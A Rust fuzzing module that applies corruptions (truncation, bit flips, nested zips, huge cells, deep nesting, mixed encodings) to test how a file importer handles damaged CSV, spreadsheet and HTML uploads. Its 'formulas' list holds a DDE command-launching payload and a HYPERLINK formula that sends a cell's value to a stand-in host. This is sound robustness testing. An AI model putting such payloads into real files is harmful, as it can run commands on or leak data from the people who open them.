//! What may befall a file on its way from a back office to a browser, and what may be done to one on purpose.

use super::bases::archive;
use super::chance::Chance;
use std::io::{Cursor, Read};

type Mutation = fn(&mut Vec<u8>, &mut Chance);

/// All by name. Those of the second half know what they do to a text; the first do it to any bytes.
pub const MUTATIONS: [(&str, Mutation); 25] = [
    ("cut off", |bytes, chance| {
        bytes.truncate(chance.below(bytes.len()))
    }),
    ("bits flipped", |bytes, chance| {
        for _ in 0..=chance.below(20) {
            let at = chance.below(bytes.len());
            bytes[at] ^= 1 << chance.below(8);
        }
    }),
    ("bytes inserted", |bytes, chance| {
        for _ in 0..=chance.below(5) {
            let (at, byte) = (
                chance.below(bytes.len()),
                u8::try_from(chance.below(256)).unwrap(),
            );
            let many = chance.below(40);
            bytes.splice(at..at, std::iter::repeat_n(byte, many));
        }
    }),
    ("bytes removed", |bytes, chance| {
        let from = chance.below(bytes.len());
        let to = (from + chance.below(300)).min(bytes.len());
        bytes.drain(from..to);
    }),
    ("a piece twice", |bytes, chance| {
        let from = chance.below(bytes.len());
        let piece = bytes[from..(from + chance.below(4000)).min(bytes.len())].to_vec();
        let at = chance.below(bytes.len());
        bytes.splice(at..at, piece);
    }),
    ("a nought every so often", |bytes, chance| {
        let step = 3 + chance.below(5000);
        bytes.iter_mut().step_by(step).for_each(|byte| *byte = 0);
    }),
    ("a mark in the middle", |bytes, chance| {
        let mark: &[u8] = chance.one(&[&b"\xEF\xBB\xBF"[..], b"\xFF\xFE", b"\xFE\xFF"]);
        let at = chance.below(bytes.len()) * chance.below(2);
        bytes.splice(at..at, mark.iter().copied());
    }),
    ("lying sizes", |bytes, chance| {
        // Lengths of entries, of lists, of records: a word of ones or of a size no file has.
        for _ in 0..=chance.below(3) {
            let at = chance.below(bytes.len().saturating_sub(4));
            let word: [u8; 4] = chance.one(&[[0xFF; 4], [0xFF, 0xFF, 0xFF, 0x7F], [0, 0, 0, 0x10], [0; 4]]);
            bytes
                .iter_mut()
                .skip(at)
                .zip(word)
                .for_each(|(to, from)| *to = from);
        }
    }),
    ("its end damaged", |bytes, chance| {
        // The list of an archive's contents stands there.
        let from = bytes.len().saturating_sub(1 + chance.below(400));
        for byte in bytes.iter_mut().skip(from).step_by(1 + chance.below(9)) {
            *byte = byte.wrapping_add(1);
        }
    }),
    ("in an archive", |bytes, _| *bytes = archive(&[("in.bin", bytes)])),
    ("in archives in archives", |bytes, chance| {
        for _ in 0..2 + chance.below(3) {
            *bytes = archive(&[("in.zip", bytes)]);
        }
    }),
    ("delimiters swapped", |bytes, chance| {
        let (from, to) = (chance.one(b",;\t|"), chance.one(b",;\t|"));
        let every = 1 + chance.below(3);
        let found = bytes.iter_mut().filter(|byte| **byte == from);
        found.step_by(every).for_each(|byte| *byte = to);
    }),
    ("other line ends", |bytes, chance| {
        let to: &[u8] = chance.one(&[&b"\r"[..], b"\r\n", b"\n\n", b"\r\r\n", b" "]);
        let lines: Vec<&[u8]> = bytes.split(|byte| *byte == b'\n').collect();
        *bytes = lines.join(to);
    }),
    ("quotes left open", |bytes, chance| {
        for _ in 0..=chance.below(3) {
            let at = start_of_cell(bytes, chance);
            bytes.insert(at, b'"');
        }
    }),
    ("a cell of 1 MB", |bytes, chance| {
        let cell: &[u8] = chance.one(&[
            &b"x"[..],
            b"9",
            b"\"\"",
            "长".as_bytes(),
            b"a\n",
            b" ",
            b"=",
            b"1e",
        ]);
        put(bytes, chance, &cell.repeat((1 << 20) / cell.len()));
    }),
    ("thousands of columns", |bytes, chance| {
        let count = 1000 + chance.below(9000);
        let cells: Vec<u8> = (0..count).flat_map(|at| format!(",c{at}").into_bytes()).collect();
        let at = end_of_line(bytes, chance);
        bytes.splice(at..at, cells);
    }),
    ("formulas", |bytes, chance| {
        for _ in 0..=chance.below(8) {
            let cell: &[u8] = chance.one(&[
                &b"=1+1"[..],
                b"\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"",
                b"=cmd|' /C calc'!A0",
                b"@SUM(A1:A9)",
                b"=\"358392017482951044\"",
                b"#REF!",
                b"3.5E+16",
                b"'+49",
            ]);
            put(bytes, chance, cell);
        }
    }),
    ("no header", |bytes, _| {
        let end = bytes
            .iter()
            .position(|byte| *byte == b'\n')
            .map_or(0, |at| at + 1);
        bytes.drain(..end);
    }),
    ("the header twice", |bytes, chance| {
        let end = bytes
            .iter()
            .position(|byte| *byte == b'\n')
            .map_or(0, |at| at + 1);
        let header = bytes[..end].to_vec();
        let at = end_of_line(bytes, chance);
        bytes.splice(at..at, [b"\n".to_vec(), header].concat());
    }),
    ("huge numbers", |bytes, chance| {
        for _ in 0..=chance.below(20) {
            let number: &[u8] = chance.one(&[
                &b"99999999999999999999999999999999999999"[..],
                b"-922337203685.4775808",
                b"1e308",
                b"1e999999999",
                b"0.00000000000000000000000000001",
                b"9007199254740993",
                b"9999-99-99",
                b"2026-02-30 25:61",
            ]);
            put(bytes, chance, number);
        }
    }),
    ("deep nesting", |bytes, chance| {
        let (open, close): (&[u8], &[u8]) = chance.one(&[
            (&b"["[..], &b"]"[..]),
            (b"{\"a\":", b"}"),
            (b"<table>", b"</table>"),
        ]);
        let depth = 10 + chance.below(20_000);
        let inner = [
            open.repeat(depth),
            b"1".to_vec(),
            close.repeat(depth * chance.below(2)),
        ]
        .concat();
        if chance.below(2) == 0 {
            *bytes = inner;
        } else {
            put(bytes, chance, &inner);
        }
    }),
    ("encodings mixed", |bytes, chance| {
        let other: Vec<u8> = match chance.below(3) {
            0 => encoding_rs::GBK.encode("买家已付款，等待卖家发货").0.into_owned(),
            1 => encoding_rs::WINDOWS_1252
                .encode("Größe ½ für Käufer")
                .0
                .into_owned(),
            _ => "заказ".encode_utf16().flat_map(u16::to_le_bytes).collect(),
        };
        for _ in 0..=chance.below(4) {
            put(bytes, chance, &other);
        }
    }),
    ("lines shuffled", |bytes, chance| {
        let mut lines: Vec<&[u8]> = bytes.split(|byte| *byte == b'\n').collect();
        for at in 1..lines.len() {
            let other = chance.below(at + 1);
            lines.swap(at, other);
        }
        *bytes = lines.join(&b'\n');
    }),
    ("a line very often", |bytes, chance| {
        let lines: Vec<&[u8]> = bytes.split(|byte| *byte == b'\n').collect();
        let line = [chance.one(&lines), b"\n"].concat();
        let times = ((1 << 20) / line.len().max(1)).min(20_000);
        bytes.push(b'\n');
        bytes.extend(line.repeat(times));
    }),
    ("repeated without end", |bytes, chance| {
        // Counts that workbooks and pages give for cells.
        let all = String::from_utf8_lossy(bytes).into_owned();
        let number = chance.one(&["1048576", "99999999999", "0", "-5"]);
        *bytes = all
            .replace("repeated=\"1\"", &format!("repeated=\"{number}\""))
            .replace("colspan=1", &format!("colspan={number} rowspan={number}"))
            .replace("ref=\"A1", &format!("ref=\"XFD{number}:A1"))
            .replace("r=\"7\"", &format!("r=\"{number}\""))
            .into_bytes();
    }),
];

/// Where a cell of a text begins.
fn start_of_cell(bytes: &[u8], chance: &mut Chance) -> usize {
    let from = chance.below(bytes.len());
    let rest = bytes.get(from..).unwrap_or_default();
    rest.iter()
        .position(|byte| matches!(byte, b',' | b';' | b'\t' | b'|' | b':' | b'>' | b'\n'))
        .map_or(bytes.len(), |at| from + at + 1)
}

/// Writes over a cell of a text.
fn put(bytes: &mut Vec<u8>, chance: &mut Chance, cell: &[u8]) {
    let from = start_of_cell(bytes, chance);
    let rest = bytes.get(from..).unwrap_or_default();
    let end = rest
        .iter()
        .position(|byte| matches!(byte, b',' | b';' | b'\t' | b'|' | b'<' | b'}' | b'\n'))
        .map_or(bytes.len(), |at| from + at);
    bytes.splice(from..end, cell.iter().copied());
}

fn end_of_line(bytes: &[u8], chance: &mut Chance) -> usize {
    let from = chance.below(bytes.len()) * chance.below(2);
    let rest = bytes.get(from..).unwrap_or_default();
    rest.iter()
        .position(|byte| *byte == b'\n')
        .map_or(bytes.len(), |at| from + at)
}

/// What is in an archive.
fn unpack(bytes: &[u8]) -> Option<Vec<(String, Vec<u8>)>> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).ok()?;
    (0..zip.len())
        .map(|at| {
            let mut entry = zip.by_index(at).ok()?;
            let mut content = Vec::new();
            entry.read_to_end(&mut content).ok()?;
            Some((entry.name().ok()?.into_owned(), content))
        })
        .collect()
}

/// Does one to three things to a file, and tells which. Of an archive nearly always to something in it, which is
/// packed again as it should be: else its checksums would keep all of that from being read.
pub fn mutate(bytes: &[u8], chance: &mut Chance) -> (Vec<u8>, String) {
    let mut told = String::new();
    let inside = if chance.below(5) > 0 { unpack(bytes) } else { None };
    let Some(mut entries) = inside else {
        let mut bytes = bytes.to_vec();
        for _ in 0..=chance.below(3) {
            if bytes.is_empty() {
                break;
            }
            let (name, mutation) = chance.one(&MUTATIONS);
            told.push_str(&format!("{name}; "));
            mutation(&mut bytes, chance);
        }
        return (bytes, told);
    };
    let at = chance.below(entries.len());
    // What a sheet says matters more than what colours it has.
    let sheet = entries
        .iter()
        .position(|(name, _)| name.ends_with("sheet1.xml") || name == "content.xml");
    let at = if chance.below(4) > 0 {
        sheet.unwrap_or(at)
    } else {
        at
    };
    if let Some((name, content)) = entries.get_mut(at) {
        let (mutated, done) = mutate(content, chance);
        told = format!("{name}: {done}");
        *content = mutated;
    }
    let entries: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|(name, content)| (name.as_str(), content.as_slice()))
        .collect();
    (archive(&entries), told)
}
